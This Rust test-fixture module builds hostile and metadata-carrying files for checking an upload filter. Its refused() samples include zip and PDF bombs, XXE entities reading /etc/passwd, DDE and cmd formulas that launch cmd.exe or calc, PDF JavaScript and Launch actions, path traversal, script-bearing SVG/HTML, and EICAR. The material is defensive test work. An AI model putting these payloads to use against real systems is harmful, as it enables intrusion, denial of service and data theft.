//! The hostile kit: files that attack whoever opens, unpacks, draws or serves them, and honest files that tell more
//! than their sender means to. Made here, byte by byte; none of it is anybody's.

use std::io::{Cursor, Write as _};

use image::{DynamicImage, ImageFormat, RgbImage};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// What an honest camera or author would have left behind.
pub const SECRETS: &[&str] = &["SECRET-CAMERA", "SECRET-AUTHOR", "SECRET-COMPANY", "SECRET-PLACE"];

pub struct Sample {
    pub what: &'static str,
    pub name: String,
    pub bytes: Vec<u8>,
}

fn sample(what: &'static str, name: &str, bytes: impl Into<Vec<u8>>) -> Sample {
    Sample { what, name: name.to_owned(), bytes: bytes.into() }
}

pub fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    for (name, bytes) in entries {
        out.start_file(*name, options).unwrap();
        out.write_all(bytes).unwrap();
    }
    out.finish().unwrap().into_inner()
}

const WORD_TYPES: &[u8] = br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
const EXCEL_TYPES: &[u8] = br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"#;
const DOCUMENT: &[u8] = r#"<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:p><w:ins w:id="1" w:author="SECRET-AUTHOR" w:date="2026-01-01T00:00:00Z"><w:r><w:t>正文</w:t></w:r></w:ins></w:p></w:body></w:document>"#.as_bytes();
const SHEET: &[u8] = br#"<?xml version="1.0"?><worksheet xmlns="s"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B2)</f><v>3</v></c></row></sheetData></worksheet>"#;
const WORKBOOK: &[u8] = br#"<?xml version="1.0"?><workbook xmlns="s"><fileSharing userName="SECRET-AUTHOR"/><sheets><sheet name="1" sheetId="1"/></sheets></workbook>"#;

pub fn docx(more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut entries: Vec<(&str, &[u8])> = vec![("[Content_Types].xml", WORD_TYPES)];
    if more.iter().all(|(name, _)| *name != "word/document.xml") {
        entries.push(("word/document.xml", DOCUMENT));
    }
    entries.extend_from_slice(more);
    zip(&entries)
}

pub fn xlsx(more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut entries: Vec<(&str, &[u8])> =
        vec![("[Content_Types].xml", EXCEL_TYPES), ("xl/workbook.xml", WORKBOOK)];
    if more.iter().all(|(name, _)| *name != "xl/worksheets/sheet1.xml") {
        entries.push(("xl/worksheets/sheet1.xml", SHEET));
    }
    entries.extend_from_slice(more);
    zip(&entries)
}

fn rels(relation: &str) -> Vec<u8> {
    format!(r#"<?xml version="1.0"?><Relationships xmlns="r">{relation}</Relationships>"#).into_bytes()
}

/// A PDF of one page with these objects more; `trailer` is written into its trailer.
pub fn pdf(objects: &[&[u8]], trailer: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n".to_vec();
    for (i, object) in objects.iter().enumerate() {
        out.extend(format!("{} 0 obj\n", i + 4).into_bytes());
        out.extend_from_slice(object);
        out.extend(b"\nendobj\n");
    }
    out.extend(format!("trailer\n<< /Root 1 0 R {trailer} >>\nstartxref\n0\n%%EOF\n").into_bytes());
    out
}

pub fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

pub fn stream(dictionary: &str, bytes: &[u8]) -> Vec<u8> {
    let head = format!("<< {dictionary} /Length {} >>\nstream\n", bytes.len());
    [head.as_bytes(), bytes, b"\nendstream"].concat()
}

pub fn png(width: u32, height: u32) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(RgbImage::from_fn(width, height, |x, y| image::Rgb([x as u8, y as u8, 200])))
        .write_to(&mut out, ImageFormat::Png)
        .unwrap();
    out.into_inner()
}

pub fn webp(width: u32, height: u32) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(RgbImage::new(width, height)).write_to(&mut out, ImageFormat::WebP).unwrap();
    out.into_inner()
}

pub fn jpeg(width: u32, height: u32) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    let image = RgbImage::from_fn(width, height, |x, _| {
        if x < width / 2 { image::Rgb([250, 0, 0]) } else { image::Rgb([0, 0, 250]) }
    });
    DynamicImage::ImageRgb8(image).write_to(&mut out, ImageFormat::Jpeg).unwrap();
    out.into_inner()
}

/// A photograph with camera, place, and an orientation: it was held upright and lies on its side.
pub fn photograph(width: u32, height: u32) -> Vec<u8> {
    let mut tiff = b"II*\0\x08\0\0\0\x02\0".to_vec();
    // Make: 14 bytes at 38. Orientation: 6, turn by 90 degrees.
    tiff.extend(b"\x0f\x01\x02\0\x0e\0\0\0\x26\0\0\0");
    tiff.extend(b"\x12\x01\x03\0\x01\0\0\0\x06\0\0\0");
    tiff.extend(b"\0\0\0\0");
    tiff.extend(b"SECRET-CAMERA\0GPS SECRET-PLACE\0");
    let mut segment = b"Exif\0\0".to_vec();
    segment.extend(tiff);
    let xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>SECRET-AUTHOR</x:xmpmeta>";
    let plain = jpeg(width, height);
    let mut out = plain[..2].to_vec();
    for segment in [segment.as_slice(), xmp] {
        out.extend(b"\xff\xe1");
        out.extend(u16::try_from(segment.len() + 2).unwrap().to_be_bytes());
        out.extend_from_slice(segment);
    }
    out.extend_from_slice(&plain[2..]);
    out
}

/// The head of a picture of this size, with next to nothing behind it.
fn huge_png(width: u32, height: u32) -> Vec<u8> {
    let mut header = b"IHDR".to_vec();
    header.extend(width.to_be_bytes());
    header.extend(height.to_be_bytes());
    header.extend([8, 2, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n\0\0\0\r".to_vec();
    let mut crc = flate2::Crc::new();
    crc.update(&header);
    out.extend(&header);
    out.extend(crc.sum().to_be_bytes());
    let data = deflate(&[0; 1000]);
    let mut crc = flate2::Crc::new();
    crc.update(b"IDAT");
    crc.update(&data);
    out.extend(u32::try_from(data.len()).unwrap().to_be_bytes());
    out.extend(b"IDAT");
    out.extend(&data);
    out.extend(crc.sum().to_be_bytes());
    out.extend(b"\0\0\0\0IEND\xaeB`\x82");
    out
}

pub fn eicar() -> Vec<u8> {
    [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"].concat().into_bytes()
}

/// Files that must be refused.
pub fn refused() -> Vec<Sample> {
    let mut all = packages();
    all.extend(pdfs());
    all.extend(others());
    all
}

fn packages() -> Vec<Sample> {
    let zeros = vec![b' '; 40 << 20];
    let many: Vec<String> = (0..100_000).map(|i| format!("word/{i}.xml")).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|n| (n.as_str(), &b""[..])).collect();
    let macro_types =
        String::from_utf8_lossy(WORD_TYPES).replace("document.main", "document.macroEnabled.main");
    let xxe = br#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>"#;
    let template = rels(
        r#"<Relationship Id="1" Type="http://x/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>"#,
    );
    let hidden = rels(
        r#"<Relationship Id="1" Type="http://x/image" Target="http://192.0.2.1/a.png" TargetMode="Ext&#101;rnal"/>"#,
    );
    let file_link = rels(
        r#"<Relationship Id="1" Type="http://x/hyperlink" Target="file://192.0.2.1/share/x" TargetMode="External"/>"#,
    );
    let dde = br#"<w:document xmlns:w="w"><w:body><w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>"#;
    let simple = br#"<w:document xmlns:w="w"><w:body><w:p><w:fldSimple w:instr="INCLUDEPICTURE http://192.0.2.1/a"/></w:p></w:body></w:document>"#;
    let formula = br#"<worksheet xmlns="s"><sheetData><row r="1"><c r="A1"><f>cmd|'/C calc'!A0</f></c></row></sheetData></worksheet>"#;
    let utf16: Vec<u8> = "\u{feff}<x><!DOCTYPE a></x>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let inner = docx(&[]);
    let word = |what, more: &[(&str, &[u8])]| sample(what, "意见.docx", docx(more));
    vec![
        word("zip bomb", &[("word/header1.xml", &zeros)]),
        word("nested archive", &[("word/media/image1.png", &inner)]),
        sample("100,000 entries", "意见.docx", docx(&many)),
        sample("docm", "意见.docm", docx(&[])),
        word("macros", &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
        sample(
            "macros by type",
            "意见.docx",
            zip(&[("[Content_Types].xml", macro_types.as_bytes()), ("word/document.xml", DOCUMENT)]),
        ),
        word("XXE in Word", &[("word/settings.xml", xxe)]),
        sample("XXE in Excel", "表.xlsx", xlsx(&[("xl/styles.xml", xxe)])),
        word("UTF-16 hides", &[("word/settings.xml", &utf16)]),
        word("external template", &[("word/_rels/settings.xml.rels", &template)]),
        word("external by entity", &[("word/_rels/document.xml.rels", &hidden)]),
        word("link to a share", &[("word/_rels/document.xml.rels", &file_link)]),
        word("DDE in pieces", &[("word/document.xml", dde)]),
        word("INCLUDEPICTURE", &[("word/document.xml", simple)]),
        sample("DDE formula", "表.xlsx", xlsx(&[("xl/worksheets/sheet1.xml", formula)])),
        sample("external links", "表.xlsx", xlsx(&[("xl/externalLinks/externalLink1.xml", b"<x/>")])),
        sample("connections", "表.xlsx", xlsx(&[("xl/connections.xml", b"<x/>")])),
        word("embedded object", &[("word/embeddings/oleObject1.bin", b"x")]),
        word("ActiveX", &[("word/activeX/activeX1.xml", b"<x/>")]),
        word("program as picture", &[("word/media/image1.png", b"MZ\x90\0")]),
        word("parent folder", &[("../../etc/passwd", b"x")]),
        word("absolute path", &[("/etc/passwd", b"x")]),
        word("same name twice", &[("WORD/document.xml", b"<x/>")]),
        word("EICAR inside", &[("word/media/image1.png", &eicar())]),
        word("deep nesting", &[("word/settings.xml", "<a>".repeat(5000).as_bytes())]),
        sample("Excel called Word", "意见.docx", xlsx(&[])),
        sample("zip called Word", "意见.docx", zip(&[("a.txt", b"a")])),
        sample("truncated", "意见.docx", &docx(&[])[..300]),
    ]
}

fn pdfs() -> Vec<Sample> {
    let action =
        |action: &str| pdf(&[format!("<< /S /{action} /F (x) /JS (app.alert\\(1\\)) >>").as_bytes()], "");
    let hidden = deflate(b"9 0 << /S /JavaScript /JS (app.alert(1)) >>");
    let packed = stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &hidden);
    let hex: String = hidden.iter().map(|b| format!("{b:02x}")).collect();
    let twice = stream("/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", hex.as_bytes());
    let unnamed = stream("/Type 9 0 R /N 1 /First 4 /Filter 8 0 R", hex.as_bytes());
    let bomb = stream("/Filter /FlateDecode", &deflate(&vec![0; 210 << 20]));
    let plain = pdf(&[], "");
    // Each begins a packed stream of empty blocks that goes on to the end of the file.
    let mut unit = b"\x00\x00\x00\xff\xff".repeat(1000);
    unit.extend(b"\x00\x09\x00\xf6\xffstream\n\x78\x9c");
    let everywhere = [b"stream\n\x78\x9c".to_vec(), unit.repeat(1500)].concat();
    let file = |what, bytes: Vec<u8>| sample(what, "意见.pdf", bytes);
    vec![
        file("PDF with JavaScript", action("JavaScript")),
        file("PDF with J#61vaScript", action("J#61vaScript")),
        file("PDF with OpenAction", pdf(&[b"<< /OpenAction 5 0 R >>"], "")),
        file("PDF with Launch", action("Launch")),
        file("PDF with a file inside", pdf(&[b"<< /Type /EmbeddedFile >>"], "")),
        file("PDF that sends data", action("SubmitForm")),
        file("PDF with XFA", pdf(&[b"<< /XFA [] >>"], "")),
        file("PDF with password", pdf(&[], "/Encrypt 9 0 R")),
        file("script in a packed object", pdf(&[&packed], "")),
        file("script packed twice", pdf(&[&twice], "")),
        file("script packed by reference", pdf(&[&unnamed], "")),
        file("PDF bomb", pdf(&[&bomb], "")),
        file("PDF and archive", [plain.clone(), docx(&[])].concat()),
        file("PDF and page", [plain.clone(), b"<html><script>alert(1)</script>".to_vec()].concat()),
        file("page and PDF", [b"<script>alert(1)</script>".to_vec(), plain.clone()].concat()),
        file("EICAR in a PDF", pdf(&[&stream("", &eicar())], "")),
        file("PDF without end", plain[..60].to_vec()),
        file("streams that begin everywhere", pdf(&[&everywhere], "")),
        file("a million authors", pdf(&["/Author(".repeat(1_000_000).as_bytes()], "")),
    ]
}

fn others() -> Vec<Sample> {
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#;
    vec![
        sample("SVG", "图.svg", &svg[..]),
        sample("SVG called PNG", "图.png", &svg[..]),
        sample("page", "页.html", &b"<html><script>alert(1)</script></html>"[..]),
        sample("GIF and script", "图.gif", &b"GIF89a=1;alert(1)//"[..]),
        sample("GIF called PNG", "图.png", &b"GIF89a=1;alert(1)//"[..]),
        sample("50,000 x 50,000", "图.png", huge_png(50_000, 50_000)),
        sample("19,000 x 19,000", "图.png", huge_png(19_000, 19_000)),
        sample("no pixels", "图.png", huge_png(100, 100)),
        sample("EICAR", "病毒.txt", eicar()),
        sample("Windows program", "意见.pdf", &b"MZ\x90\0\x03\0\0\0"[..]),
        sample("program called text", "意见.txt", &b"\x7fELF\x02\x01\x01\0\0"[..]),
        sample("program by ending", "意见.exe", &b"MZ\x90\0"[..]),
        sample("two endings", "意见.pdf.exe", pdf(&[], "")),
        sample("picture called PDF", "意见.pdf", png(4, 4)),
        sample("PDF called picture", "图.jpg", pdf(&[], "")),
        sample("old Word", "意见.doc", &b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..]),
        sample("encrypted Word", "意见.docx", &b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..]),
        sample("archive", "全部.zip", zip(&[("a.txt", b"a")])),
        sample("nothing", "空.txt", &b""[..]),
        sample("no ending", "意见", &b"text"[..]),
        sample("control characters", "意见.txt", &b"a\x1b[31mb"[..]),
    ]
}

/// Files that are taken, and must come out harmless and without the [`SECRETS`].
pub fn taken() -> Vec<Sample> {
    let core = br#"<?xml version="1.0"?><cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>SECRET-AUTHOR</dc:creator></cp:coreProperties>"#;
    let app = br#"<?xml version="1.0"?><Properties><Company>SECRET-COMPANY</Company></Properties>"#;
    let comments = br#"<?xml version="1.0"?><comments xmlns="s"><authors><author>SECRET-AUTHOR</author></authors></comments>"#;
    let people = br#"<?xml version="1.0"?><personList><person displayName="SECRET-AUTHOR" id="{1}" userId="SECRET-AUTHOR"/></personList>"#;
    let link = rels(
        r#"<Relationship Id="1" Type="http://x/hyperlink" Target="https://example.invalid/" TargetMode="External"/>"#,
    );
    let photo = photograph(40, 20);
    let info = b"<< /Author (SECRET-AUTHOR \\(1\\) \\) x) /Title (t) /Producer <5345435245542d415554484f52> /Company (SECRET-COMPANY) >>";
    let packed = stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &deflate(b"9 0 << /Author (SECRET-AUTHOR) >> and what else is in here, long enough to be packed and to be unpacked again >>"));
    let xmp = stream("/Type /Metadata", b"<?xpacket?><x:xmpmeta>SECRET-AUTHOR</x:xmpmeta><?xpacket?>");
    let packed_xmp = stream(
        "/Type /Metadata /Filter /FlateDecode",
        &deflate(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>SECRET-AUTHOR SECRET-COMPANY and more</x:xmpmeta>"),
    );
    let in_pdf = stream("/Filter /DCTDecode", &photo);
    vec![
        sample("photograph", "照片.jpg", photo.clone()),
        sample("JPEG and archive", "照片.jpg", [jpeg(8, 8), docx(&[])].concat()),
        sample("PNG", "图.png", png(30, 10)),
        sample("JPEG called PNG", "图.png", jpeg(8, 8)),
        sample("WebP", "图.webp", webp(8, 8)),
        sample(
            "Word",
            "意见.docx",
            docx(&[
                ("docProps/core.xml", core),
                ("docProps/app.xml", app),
                ("word/media/image1.jpeg", &photo),
                ("word/_rels/document.xml.rels", &link),
            ]),
        ),
        sample(
            "Excel",
            "表.xlsx",
            xlsx(&[
                ("docProps/core.xml", core),
                ("xl/comments1.xml", comments),
                ("xl/persons/person.xml", people),
            ]),
        ),
        sample("PDF", "意见.pdf", pdf(&[info, &packed, &xmp, &packed_xmp, &in_pdf], "/Info 4 0 R")),
        sample(
            "PDF, author by reference",
            "意见.pdf",
            pdf(&[b"<< /Author 5 0 R >>", b"(SECRET-AUTHOR)"], "/Info 4 0 R"),
        ),
        sample("text", "意见.txt", "第一条 意见\r\n<script>alert(1)</script>".as_bytes()),
        sample("text in GB18030", "意见.txt", encoding_rs::GB18030.encode("第一条意见").0.into_owned()),
    ]
}
